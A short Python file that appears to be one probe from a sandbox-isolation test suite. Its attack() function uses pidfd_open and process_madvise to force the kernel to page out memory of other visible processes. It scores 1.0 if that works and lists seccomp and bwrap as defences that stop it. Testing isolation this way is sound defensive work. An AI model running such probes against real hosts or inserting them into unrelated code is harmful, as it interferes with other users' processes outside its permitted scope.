"""Has the kernel page out the memory of every process it can see.

stopped_by: nobody else can be seen; the init is not dumpable; seccomp
plain bwrap: stopped
"""

import ctypes
import os

from tools import others, syscall, writable_spans


def attack():
    low, high = writable_spans()[0]
    span = (ctypes.c_size_t * 2)(low, high - low)
    for pid in others():
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        if syscall("process_madvise", pidfd, ctypes.byref(span), 1, 21, 0) >= 0:
            return 1.0
    return 0.0
